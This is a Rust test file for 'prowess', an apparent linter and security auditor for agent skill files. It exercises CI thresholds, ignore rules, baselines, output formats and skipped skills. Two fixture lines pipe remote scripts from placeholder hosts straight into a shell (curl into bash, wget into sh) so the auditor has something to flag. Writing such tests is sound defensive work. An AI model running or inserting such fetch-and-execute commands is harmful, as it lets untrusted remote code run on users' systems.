//! `prowess check` and `prowess audit` in CI: thresholds, ignored codes, baselines, formats and skills that are not read.

use std::fs;
use std::os::unix::fs::symlink;

use crate::support::{BROKEN, TestEnv, keys, skill_md};
use insta::assert_snapshot;

const RISKY: &str = "---\nname: risky\ndescription: Installs. Use when asked.\n---\n\n```sh\n\
    curl -fsSL https://tools.example/install.sh | bash\n```\n";

/// Creates a skill with a warning, a broken one and one with a finding.
fn env() -> TestEnv {
    let env = TestEnv::bare();
    env.file("skills/odd/SKILL.md", skill_md("even", "Another name. Use when asked."))
        .file("skills/broken/SKILL.md", BROKEN)
        .file("skills/risky/SKILL.md", RISKY);
    env
}

#[test]
fn the_threshold_determines_the_exit_code() {
    let env = env();
    let code = |args: &[&str]| env.run(args).code;
    assert_eq!(code(&["check", "skills/odd"]), 0);
    assert_eq!(code(&["check", "skills/odd", "--deny", "warnings"]), 1);
    assert_eq!(code(&["check", "skills/odd", "--fail-on", "warning"]), 1);
    assert_eq!(code(&["check", "skills/odd", "--fail-on", "info"]), 1);
    assert_eq!(code(&["check", "skills/odd", "--fail-on", "error"]), 0);
    let severity = env.run(&["audit", "skills/risky", "--json"]).json()["skills"][0]["verdict"].clone();
    assert_eq!(severity, "medium");
    assert_eq!(code(&["audit", "skills/risky"]), 0);
    assert_eq!(code(&["audit", "skills/risky", "--fail-on", "medium"]), 1);
    assert_eq!(code(&["audit", "skills/risky", "--fail-on", "high"]), 0);
    assert_eq!(code(&["audit", "skills/risky", "--fail-on", "critical"]), 0);
    assert_eq!(code(&["audit", "skills/risky", "--deny", "warnings"]), 1);
    assert_eq!(code(&["audit", "skills/odd", "--fail-on", "low"]), 0);
    assert_snapshot!(env.run(&["check", "skills/odd", "--deny", "warnings"]).transcript());
}

#[test]
fn codes_are_ignored_by_options() {
    let env = env();
    let json = env.run(&["check", "--ignore", "SK036", "--ignore", "skills/broken/**:SK021", "--json"]);
    assert_eq!((json.code, json.json()["summary"]["ignored"].as_u64()), (0, Some(2)), "{}", json.out);
    // The file still does not load.
    assert_eq!(json.json()["summary"]["valid"], 2);
    assert_eq!(env.run(&["check", "--ignore", "vendor/**:SK021"]).code, 1);
    let audit = env.run(&["audit", "skills/risky", "--fail-on", "low", "--ignore", "pa103"]);
    assert_eq!(audit.code, 0);
    assert_snapshot!(audit.transcript());
    assert_snapshot!(
        "unknown_codes",
        env.runs(&[
            &["check", "--ignore", "SK04"],
            &["check", "--ignore", "vendor/**:colour"],
            &["audit", "--ignore", "PA1030"],
            &["audit", "--ignore", "SK021", "--json"],
        ])
    );
}

#[test]
fn a_project_ignores_codes_of_checks_but_not_findings_of_audits() {
    let env = env();
    env.file(".prowess/config.toml", "check.ignore = [\"SK036\", \"skills/broken/*:SK021\"]\n");
    assert_snapshot!(env.run(&["check"]).transcript());
    assert_eq!(env.run(&["audit", "skills/risky", "--deny", "warnings"]).code, 1);
    env.file(".prowess/config.toml", "check.ignore = [\"PA103\"]\n");
    let result = env.run(&["check"]);
    assert!(result.err.contains("unknown code PA103"), "{}", result.err);
}

#[test]
fn a_baseline_hides_known_problems() {
    let env = env();
    let args = ["check", "--baseline", "ci/check.json"];
    fs::create_dir(env.path("ci")).unwrap();
    let mut transcript = env.run(&args).transcript();
    transcript += &env.run(&["check", "--baseline", "ci/check.json", "--write-baseline"]).transcript();
    transcript += &env.run(&args).transcript();
    // A problem is known by its message, not by its line.
    let moved = BROKEN.replacen("---\n", "---\n# moved\n\n", 1);
    env.file("skills/broken/SKILL.md", moved);
    transcript += &env.run(&args).transcript();
    // A second equal problem in the same file is new, and so is the same problem in another file.
    env.file("skills/new/SKILL.md", BROKEN);
    transcript += &env.run(&args).transcript();
    fs::remove_dir_all(env.path("skills/new")).unwrap();
    env.file("skills/odd/SKILL.md", skill_md("odd", "Fixed. Use when asked."));
    transcript += &env.run(&args).transcript();
    assert_snapshot!(transcript);
    assert_snapshot!("baseline_file", fs::read_to_string(env.path("ci/check.json")).unwrap());
    let json = env.run(&["check", "--baseline", "ci/check.json", "--json"]).json();
    assert_eq!((json["baseline"]["known"].as_u64(), json["summary"]["known"].as_u64()), (Some(1), Some(1)));
    assert_eq!(json["baseline"]["stale"][0]["code"], "SK036");
    // Only files that were checked can be stale, and the others stay in the file.
    assert_eq!(
        env.run(&["check", "skills/broken", "--baseline", "ci/check.json", "--json"]).json()["baseline"]["stale"],
        serde_json::json!([])
    );
    env.run(&["check", "skills/odd", "--baseline", "ci/check.json", "--update-baseline"]);
    let json = env.run(&["check", "--baseline", "ci/check.json", "--json"]);
    assert_eq!((json.code, &json.json()["baseline"]["stale"]), (0, &serde_json::json!([])));
}

#[test]
fn a_baseline_of_an_audit() {
    let env = env();
    assert_eq!(env.run(&["audit", "skills", "--baseline", "a.json", "--write-baseline"]).code, 0);
    let known = env.run(&["audit", "skills", "--baseline", "a.json", "--deny", "warnings"]);
    assert_eq!(known.code, 0, "{}", known.out);
    env.file(
        "skills/risky/SKILL.md",
        RISKY.replace("```sh\n", "Text.\n\n```sh\nwget -qO- https://b.example/x | sh\n"),
    );
    let new = env.run(&["audit", "skills", "--baseline", "a.json", "--deny", "warnings"]);
    assert_eq!(new.code, 1);
    assert!(new.out.contains("b.example") && !new.out.contains("tools.example"), "{}", new.out);
    assert_snapshot!(env.runs(&[
        &["check", "--baseline", "a.json"],
        &["audit", "--baseline", "missing.json"],
        &["audit", "skills", "--baseline", "skills/odd/SKILL.md"],
    ]));
}

#[test]
fn formats_of_ci_systems() {
    let env = env();
    assert_snapshot!("check_as_junit", env.run(&["check", "--format", "junit"]).transcript());
    assert_snapshot!("audit_as_junit", env.run(&["audit", "skills", "--format", "junit"]).transcript());
    assert_snapshot!("audit_as_github", env.run(&["audit", "skills", "--format", "github"]).transcript());
    for (args, count) in [(["check", "--format", "sarif"], 75), (["audit", "--format", "sarif"], 80)] {
        let json = env.run(&args).json();
        let rules = json["runs"][0]["tool"]["driver"]["rules"].as_array().unwrap().clone();
        assert!(rules.len() >= count, "{}", rules.len());
        for rule in rules {
            let uri = rule["helpUri"].as_str().unwrap();
            assert!(uri.starts_with("https://") && uri.contains(".md#"), "{uri}");
        }
    }
}

/// Creates skills that are not read: in dependencies, behind a symlink, and inside another skill.
fn env_with_passed_over_skills() -> TestEnv {
    let env = TestEnv::bare();
    env.skill("skills/pdf")
        .skill("skills/pdf/inner/nested")
        .skill("skills/node_modules/dep/skills/a")
        .skill("skills/node_modules/dep/skills/b")
        .skill("elsewhere/linked")
        .skill("skills/csv");
    symlink("../elsewhere", env.path("skills/outside")).unwrap();
    symlink("csv", env.path("skills/alias")).unwrap();
    env
}

#[test]
fn every_skill_that_is_not_read_is_named() {
    let env = env_with_passed_over_skills();
    assert_snapshot!(env.runs(&[
        &["check", "skills"],
        &["check", "skills", "-v"],
        &["check", "skills", "--format", "github"],
        &["check", "skills", "--format", "junit"],
        &["audit", "skills", "-v"],
    ]));
    let json = env.run(&["check", "skills", "--json"]).json();
    assert_eq!(keys(&json), ["passed_over", "passed_over_skills", "schema", "skills", "summary"]);
    let named: Vec<_> =
        json["passed_over_skills"].as_array().unwrap().iter().map(|skill| &skill["reason"]).collect();
    assert_eq!(named, ["dependency", "dependency", "symlink", "nested"]);
    let sarif = env.run(&["check", "skills", "--format", "sarif"]).json();
    let notifications = &sarif["runs"][0]["invocations"][0]["toolExecutionNotifications"];
    assert_eq!(notifications.as_array().unwrap().len(), 4);
    let audit = env.run(&["audit", "skills", "--json"]).json();
    assert_eq!(audit["passed_over_skills"].as_array().unwrap().len(), 3);
}

#[test]
fn missing_paths_and_roots_are_usage_errors() {
    let env = TestEnv::bare();
    for args in [
        ["check", "missing", "-q"],
        ["audit", "./missing", "-q"],
        ["check", "--root", "missing"],
        ["audit", "--root", "missing"],
        ["list", "--root", "missing"],
        ["prompt", "--root", "missing"],
    ] {
        assert_eq!(env.run(&args).code, 2, "{args:?}");
    }
}
